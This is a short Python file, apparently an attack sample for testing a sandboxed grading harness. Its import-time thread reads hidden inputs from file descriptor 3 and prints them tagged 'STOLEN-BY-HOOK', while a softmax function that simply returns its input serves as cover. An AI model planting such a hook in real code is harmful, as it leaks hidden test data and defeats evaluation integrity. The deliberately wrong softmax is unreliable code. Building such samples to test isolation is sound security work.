"""Attack: at import time, start a thread that waits on the call pipe (fd 3)
for the hidden inputs and prints what it steals, hoping the run goes on as
usual and the stolen bytes reach the report."""
import os
import threading


def steal():
    os.set_blocking(3, True)
    while True:
        data = os.read(3, 1 << 16)
        if not data:
            return
        print("STOLEN-BY-HOOK", data.decode("latin-1")[:500], flush=True)


threading.Thread(target=steal, daemon=True).start()


def softmax(x, dim=-1):
    return x
